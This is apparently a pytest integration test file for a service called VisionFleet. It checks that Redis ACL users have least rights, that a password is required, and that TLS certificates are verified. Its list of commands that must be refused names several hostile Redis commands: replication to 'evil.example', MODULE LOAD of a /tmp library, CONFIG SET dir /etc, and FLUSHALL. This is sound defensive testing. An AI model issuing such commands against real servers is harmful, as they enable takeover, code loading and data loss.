"""Redis with passwords, least rights and TLS: deploy/redis/users.acl.example against real processes."""

from __future__ import annotations

import base64
import contextlib
import datetime
import ipaddress
import socket
import ssl
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
import redis
import requests
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec

from deploy.local.redis_server import command, find_binary
from tests.integration.tasks.processes import ROOT, Processes
from tests.redis_server import free_port

pytestmark = [pytest.mark.integration, pytest.mark.timeout(150)]
ACL = ROOT / "deploy" / "redis" / "users.acl.example"
SCENE = base64.b64encode((ROOT / "examples/images/scene.jpg").read_bytes()).decode()


@contextlib.contextmanager
def serving(folder: Path, port: int, *options: str) -> Iterator[None]:
    binary = find_binary()
    assert binary is not None
    with (folder / "redis.log").open("wb") as log:
        process = subprocess.Popen([*command(binary, port, folder, 256), *options], stdout=log, stderr=log)
    try:
        deadline = time.monotonic() + 10
        while True:
            with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 1):
                break
            assert time.monotonic() < deadline
            time.sleep(0.02)
        yield
    finally:
        process.kill()
        process.wait()


@pytest.fixture
def users(tmp_path: Path) -> Iterator[int]:
    """The port of a server with the users of the example."""
    folder = tmp_path / "redis"
    folder.mkdir()
    acl = folder / "users.acl"
    acl.write_text(ACL.read_text().replace("CHANGE-", "secret-"))
    port = free_port()
    with serving(folder, port, "--aclfile", str(acl)):
        yield port


def url(port: int, user: str) -> str:
    return f"redis://vf-{user}:secret-{user}@127.0.0.1:{port}/0"


def infer(fleet: Processes) -> None:
    """A synchronous request, a job with progress and events, and a batch, which Celery splits."""
    image = {"type": "base64", "value": SCENE}
    answer = requests.post(
        f"{fleet.url}/infer/object_detection", json={"model_id": "shapes-detector", "image": image}, timeout=30
    )
    assert answer.status_code == 200, answer.text
    job = requests.post(
        f"{fleet.url}/v1/jobs",
        json={"model": "shapes-detector", "image": [image, image]},
        headers={"Prefer": "wait=30", "Idempotency-Key": "one"},
        timeout=60,
    )
    assert (job.status_code, job.json()["state"]) == (200, "succeeded"), job.text
    assert "finished" in requests.get(f"{fleet.url}/v1/jobs/{job.json()['id']}/events", timeout=30).text
    files = [("image", ("a.jpg", base64.b64decode(SCENE), "image/jpeg"))]
    batch = requests.post(
        f"{fleet.url}/v1/batches", files=files, data={"batch": '{"model": "shapes-detector"}'}, timeout=30
    ).json()
    deadline = time.monotonic() + 60
    while (now := fleet.get(f"/v1/batches/{batch['id']}"))["state"] in {"queued", "running"}:
        assert time.monotonic() < deadline, fleet.logs()
        time.sleep(0.2)
    assert (now["state"], now["failed"]) == ("succeeded", 0)


@pytest.mark.parametrize(
    ("user", "words"),
    [
        ("api", ["LPUSH", "vf:celery:cpu", "a task"]),  # a write to the broker would be code for a worker to run
        ("api", ["FLUSHALL"]),
        ("api", ["CONFIG", "SET", "dir", "/etc"]),
        ("api", ["MODULE", "LOAD", "/tmp/x.so"]),
        ("api", ["SLAVEOF", "evil.example", "6379"]),
        ("api", ["DEBUG", "SLEEP", "0"]),
        ("api", ["KEYS", "*"]),
        ("api", ["SET", "other", "x"]),
        ("worker", ["HGETALL", "vf:keys"]),
        ("worker", ["HSET", "vf:keys", "a", "b"]),
        ("worker", ["CONFIG", "GET", "requirepass"]),
        ("worker", ["SCRIPT", "FLUSH"]),
        ("stream", ["HGETALL", "vf:keys"]),
        ("stream", ["LPUSH", "vf:celery:cpu", "a task"]),
        ("stream", ["SHUTDOWN"]),
        ("operator", ["CONFIG", "SET", "dir", "/etc"]),
        ("operator", ["SAVE"]),
    ],
)
def test_and_no_others(users: int, user: str, words: list[str]) -> None:
    with redis.Redis.from_url(url(users, user)) as client, pytest.raises(redis.ResponseError, match=r"NOPERM|no perm"):
        client.execute_command(*words)


def test_nobody_without_a_password(users: int) -> None:
    for wrong in ("", "vf-api:wrong@", ":secret-api@"):
        with redis.Redis.from_url(f"redis://{wrong}127.0.0.1:{users}/0") as client, pytest.raises(redis.RedisError):
            client.ping()


class TlsProxy:
    """TLS in front of a Redis that speaks none; where redis-server itself speaks it, nothing changes for clients."""

    def __init__(self, target: int, context: ssl.SSLContext) -> None:
        self._target = target
        self._context = context
        self._listening = socket.create_server(("127.0.0.1", 0))
        self.port: int = self._listening.getsockname()[1]
        self._threads: list[threading.Thread] = []
        self._start(self._accept)

    def close(self) -> None:
        """End every connection; whoever serves one closes it."""
        self._listening.shutdown(socket.SHUT_RDWR)
        for thread in self._threads:
            thread.join(5)
        self._listening.close()

    def _start(self, call: Callable[..., None], *arguments: Any) -> threading.Thread:
        thread = threading.Thread(target=call, args=arguments, daemon=True)
        thread.start()
        self._threads.append(thread)
        return thread

    def _accept(self) -> None:
        while True:
            try:
                raw, _ = self._listening.accept()
            except OSError:
                return
            self._start(self._serve, raw)

    def _serve(self, raw: socket.socket) -> None:
        with (
            raw,
            contextlib.suppress(OSError),
            socket.create_connection(("127.0.0.1", self._target)) as inside,
            self._context.wrap_socket(raw, server_side=True) as outside,
        ):
            back = self._start(self._pump, inside, outside)
            self._pump(outside, inside)
            back.join(5)

    def _pump(self, source: socket.socket, target: socket.socket) -> None:
        with contextlib.suppress(OSError):
            while data := source.recv(65536):
                target.sendall(data)
        for end in (source, target):
            with contextlib.suppress(OSError):
                end.shutdown(socket.SHUT_RDWR)


def certificate(folder: Path) -> ssl.SSLContext:
    """A self-signed certificate for 127.0.0.1 in ``folder/ca.pem``, and the server's side of it."""
    key = ec.generate_private_key(ec.SECP256R1())
    name = x509.Name([x509.NameAttribute(x509.NameOID.COMMON_NAME, "redis")])
    now = datetime.datetime.now(datetime.timezone.utc)
    made = (
        x509.CertificateBuilder()
        .subject_name(name)
        .issuer_name(name)
        .public_key(key.public_key())
        .serial_number(1)
        .not_valid_before(now - datetime.timedelta(hours=1))
        .not_valid_after(now + datetime.timedelta(days=1))
        .add_extension(x509.SubjectAlternativeName([x509.IPAddress(ipaddress.ip_address("127.0.0.1"))]), critical=False)
        .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
        .sign(key, hashes.SHA256())
    )
    (folder / "ca.pem").write_bytes(made.public_bytes(serialization.Encoding.PEM))
    private = key.private_bytes(
        serialization.Encoding.PEM, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()
    )
    (folder / "key.pem").write_bytes(private)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(folder / "ca.pem", folder / "key.pem")
    return context


def test_each_service_has_the_rights_it_needs_and_verifies_the_certificate(users: int, tmp_path: Path) -> None:
    proxy = TlsProxy(users, certificate(tmp_path))
    base = f"rediss://vf-{{0}}:secret-{{0}}@127.0.0.1:{proxy.port}/0?ssl_ca_certs={tmp_path / 'ca.pem'}"
    fleet = Processes(base.format("api"), tmp_path)
    try:
        fleet.api()
        fleet.environment["VISIONFLEET_REDIS_URL"] = base.format("worker")
        fleet.worker()
        fleet.until()
        infer(fleet)
        assert requests.get(f"{fleet.url}/v1/keys", timeout=10).json() == {"keys": []}
        assert requests.get(f"{fleet.url}/metrics", timeout=10).status_code == 200
        logs = fleet.logs()
    finally:
        fleet.end()
    assert "secret-" not in logs
    with redis.Redis.from_url(url(users, "operator")) as operator:
        refused: Any = operator.acl_log()
    assert [(one["username"], one["reason"], one["object"]) for one in refused] == []
    with (
        redis.Redis.from_url(base.format("api").split("?")[0]) as client,
        pytest.raises(redis.ConnectionError, match=r"CERTIFICATE_VERIFY_FAILED|closed|refused"),
    ):
        client.ping()
    proxy.close()
